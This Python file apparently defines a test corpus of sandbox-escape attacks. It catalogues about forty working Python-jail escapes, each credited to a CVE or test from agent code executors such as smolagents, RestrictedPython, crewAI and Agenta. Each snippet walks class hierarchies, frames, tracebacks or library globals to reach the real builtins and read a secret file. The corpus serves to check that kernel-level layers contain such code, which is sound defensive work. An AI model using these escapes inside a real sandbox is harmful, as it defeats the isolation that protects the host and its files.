"""From the scope of a program to the real builtins: walks through what its values know.

Each ends at `take`, by which the secret is read. What Python's layer forbids, these go around; what
stops them is the kernel.
"""

from __future__ import annotations

import textwrap

from escapes.attack import Attack, Goal, layers

_FILES = layers('seccomp landlock rlimits')
_READ = 'say(take(secret_path).read())'

_WALKS: dict[str, tuple[str, str]] = {
    'class hierarchy to os._wrap_close': (
        """
        found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'smolagents CVE-2025-9959',
    ),
    'class hierarchy by __mro__': (
        """
        found = [c for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == 'Popen']
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'RestrictedPython test_Guards, str.format of __mro__',
    ),
    'class hierarchy by __bases__': (
        """
        found = [c for c in {}.__class__.__bases__[0].__subclasses__() if 'wrap_close' in str(c)]
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'Agenta pull request 4636: safer_getattr was not set',
    ),
    'class hierarchy to warnings.catch_warnings': (
        """
        found = [c for c in {}.__class__.__base__.__subclasses__() if 'catch_warn' in c.__name__]
        modules = found[0]()._module.__builtins__['__import__']('sys').modules
        """,
        'smolagents test_vulnerability_builtins_via_class_catch_warnings',
    ),
    'class hierarchy to the builtin importer': (
        """
        found = [c for c in {}.__class__.__base__.__subclasses__() if 'BuiltinImp' in str(c)]
        modules = found[0].load_module('sys').modules
        """,
        'smolagents test_vulnerability_load_module_via_builtin_importer',
    ),
    'class hierarchy by type.__repr__': (
        """
        for c in ().__class__.__base__.__subclasses__():
            if 'Popen' in c.__class__.__repr__(c):
                break
        modules = c.__init__.__globals__['sys'].modules
        """,
        'smolagents test_vulnerability_class_via_subclasses',
    ),
    '__getattribute__ called by name': (
        """
        def f(): pass
        kind = f.__getattribute__('__class__')
        base = kind.__getattribute__(kind, '__class__').__base__
        found = [c for c in base.__subclasses__() if 'Popen' in str(c)]
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'smolagents test_vulnerability_via_dunder_call',
    ),
    'type.__dict__ with assembled names': (
        """
        def name(word): return chr(95) * 2 + word + chr(95) * 2
        members = type(type(0)).__dict__
        base = members[name('base')].__get__(int)
        found = [c for c in members[name('subclasses')](base) if 'wrap_close' in str(c)]
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'crewAI pull request 4643: __dict__ was not on the list',
    ),
    '__self__ of a builtin': (
        "modules = len.__self__.__import__('sys').modules",
        'smolagents test_dangerous_builtins_calls_are_blocked',
    ),
    '__self__ of callable, then compile and exec': (
        """
        b = callable.__self__
        scope = {'__builtins__': b.__dict__}
        b.exec(b.compile('import sys', 'no file', 'exec'), scope)
        modules = scope['sys'].modules
        """,
        'smolagents test_dangerous_builtins_calls_are_blocked',
    ),
    '__globals__ of a stub': ("modules = say.__globals__['sys'].modules", 'pyjail folklore'),
    '__builtins__ of a function': (
        """
        def f(): pass
        b = say.__builtins__
        modules = b['__import__']('sys').modules
        """,
        'pyjail folklore',
    ),
    'closure of a stub': (
        """
        cells = [cell.cell_contents for cell in say.__closure__]
        child = [value for value in cells if value.__class__.__name__ == 'Child'][0]
        modules = child._stub.__globals__['sys'].modules
        """,
        'pyjail folklore',
    ),
    'print as a bound method': (
        "modules = print.__self__.__class__.write.__globals__['sys'].modules",
        'pyjail folklore',
    ),
    'globals of type': ("modules = type.__globals__['sys'].modules", 'pyjail folklore'),
    '__import__ of the scope': (
        """
        own = (lambda: 0).__globals__['__builtins__']['__import__']
        modules = own.__globals__['builtins'].__import__('sys').modules
        """,
        'pyjail folklore',
    ),
    'frame of a generator': (
        """
        def leak():
            yield g.gi_frame.f_back.f_back
        g = leak()
        modules = next(g).f_globals['sys'].modules
        """,
        'RestrictedPython CVE-2023-37271',
    ),
    'frame of a generator expression': (
        """
        g = (g.gi_frame.f_back for _ in [1])
        frame = [frame for frame in g][0]
        while 'sys' not in frame.f_globals: frame = frame.f_back
        modules = frame.f_globals['sys'].modules
        """,
        'RestrictedPython test_inspect',
    ),
    'frame of a coroutine': (
        """
        async def f(): pass
        c = f()
        modules = c.cr_frame.f_builtins['type'].__globals__['sys'].modules
        """,
        'RestrictedPython test_async',
    ),
    'frame of an asynchronous generator': (
        """
        async def f(): yield 1
        g = f()
        modules = g.ag_frame.f_builtins['type'].__globals__['sys'].modules
        """,
        'RestrictedPython test_async',
    ),
    'traceback of an exception': (
        """
        try:
            1 / 0
        except Exception as e:
            modules = e.__traceback__.tb_frame.f_back.f_globals['sys'].modules
        """,
        'smolagents test_vulnerability_builtins_via_traceback',
    ),
    'traceback by with_traceback': (
        """
        def outer():
            try:
                say(print)
            except Exception as e:
                return e
        step = outer().__traceback__.tb_next
        modules = step.tb_frame.f_globals['sys'].modules
        """,
        'RestrictedPython test_attribute: __traceback__',
    ),
    'exception group of except*': (
        """
        group = len.__self__.ExceptionGroup
        try:
            raise group('two', [ValueError(1), TypeError(2)])
        except* ValueError as caught:
            modules = caught.__traceback__.tb_frame.f_back.f_globals['sys'].modules
        except* TypeError:
            pass
        """,
        'RestrictedPython CVE-2025-22153',
    ),
    'except* without a group': (
        """
        try:
            raise ValueError
        except* ValueError as caught:
            frame = caught.exceptions[0].__traceback__.tb_frame
        modules = frame.f_back.f_globals['sys'].modules
        """,
        'RestrictedPython CVE-2025-22153',
    ),
    'AttributeError.obj': (
        """
        try:
            say.no_such_thing
        except AttributeError as e:
            modules = e.obj.__globals__['sys'].modules
        """,
        'RestrictedPython CVE-2024-47532',
    ),
    'AttributeError.obj of a library': (
        """
        try:
            np.vectorize.no_such_thing
        except AttributeError as e:
            modules = e.obj.__init__.__globals__['warnings'].sys.modules
        """,
        'RestrictedPython CVE-2024-47532',
    ),
    'NameError and its frame': (
        """
        def f(): return no_such_name
        try:
            f()
        except NameError as e:
            modules = e.__traceback__.tb_frame.f_back.f_globals['sys'].modules
        """,
        'smolagents test_vulnerability_builtins_via_traceback',
    ),
    '__context__ of an exception': (
        """
        def fail():
            try:
                say(print)
            except Exception:
                raise ValueError
        try:
            fail()
        except ValueError as e:
            trace = e.__context__.__traceback__
        while trace.tb_next: trace = trace.tb_next
        modules = trace.tb_frame.f_globals['sys'].modules
        """,
        'pyjail folklore',
    ),
    'a class through type': (
        """
        make = ().__class__.__class__
        E = make('E', (Exception,), {'__str__': lambda self: 'x'})
        base = E.__mro__[-1]
        found = [c for c in base.__subclasses__() if 'wrap_close' in str(c)]
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'RestrictedPython test_Guards, class FakeString',
    ),
    'code of a stub replaced': (
        """
        def f(name): return sys.modules
        inner = type(f)(f.__code__, say.__globals__)
        modules = inner('x')
        """,
        'smolagents CVE-2026-4963, __code__ overwritten by an assignment',
    ),
    'own function in another module': (
        """
        def f(): return sys.modules
        f = f.__class__(f.__code__, say.__globals__)
        modules = f()
        """,
        'pyjail folklore',
    ),
    '__class__ of a facade': (
        """
        kind = np.__class__
        found = [c for c in kind.__mro__[1].__subclasses__() if 'wrap_close' in str(c)]
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'smolagents test_vulnerability_via_dunder_access',
    ),
    'globals of a numpy function': (
        "modules = np.vectorize.__init__.__globals__['warnings'].sys.modules",
        'Agenta CVE-2026-27952, an allowed library that knows too much',
    ),
    'wrapped numpy function': (
        """
        inner = np.polyfit.__wrapped__.__globals__['functools'].wraps.__globals__
        modules = inner['__builtins__']['__import__']('sys').modules
        """,
        'Agenta CVE-2026-27952',
    ),
    'globals of a shapely method': (
        """
        inner = Point.buffer.__globals__
        modules = inner['__builtins__']['__import__']('sys').modules
        """,
        'smolagents CVE-2025-5120, an allowed module that knows too much',
    ),
    'loader of a library': (
        """
        spec = np.polyfit.__wrapped__.__globals__['__spec__']
        modules = spec.loader.__init__.__globals__['sys'].modules
        """,
        'smolagents test_vulnerability_via_submodules, random.__dict__',
    ),
    'reduce_ex to copyreg': (
        "modules = ().__reduce_ex__(2)[0].__globals__['__builtins__']['__import__']('sys').modules",
        'RestrictedPython documentation, pickling',
    ),
    'map over attributes': (
        """
        take = len.__self__.getattr
        kinds = list(map(take, [()], ['_' * 2 + 'class' + '_' * 2]))
        base = list(map(take, kinds, ['_' * 2 + 'base' + '_' * 2]))[0]
        found = [c for c in base.__subclasses__() if 'wrap_close' in str(c)]
        modules = found[0].__init__.__globals__['sys'].modules
        """,
        'smolagents test_vulnerability_via_submodules_through_indirect_attribute_access',
    ),
    'positional-only guard': (
        """
        def hide(__import__, /): return __import__
        own = hide(say).__globals__
        modules = own['sys'].modules
        """,
        'RestrictedPython CVE-2026-55830',
    ),
    'annotation that is evaluated': (
        """
        def f(x: say.__globals__['sys'].modules): pass
        modules = len.__self__.eval(f.__annotations__['x'], {'say': say})
        """,
        'pyjail folklore',
    ),
    'decorator': (
        """
        @(lambda f: say.__globals__['sys'].modules)
        def modules(): pass
        """,
        'pyjail folklore',
    ),
    'default argument': (
        """
        def f(x=say.__globals__['sys'].modules): return x
        modules = f()
        """,
        'RestrictedPython test_attribute, default arguments',
    ),
    'sys._getframe': (
        """
        sys = type.__globals__['sys']
        modules = sys._getframe(1).f_builtins['__import__']('sys').modules
        """,
        'smolagents test_vulnerability_builtins_via_sys',
    ),
}


def _reach(walk: str) -> str:
    return f"{textwrap.dedent(walk)}\ntake = modules['builtins'].open"


ATTACKS = [
    Attack(name, Goal.READ_FILE, _FILES, _reach(walk), _READ, origin)
    for name, (walk, origin) in _WALKS.items()
]
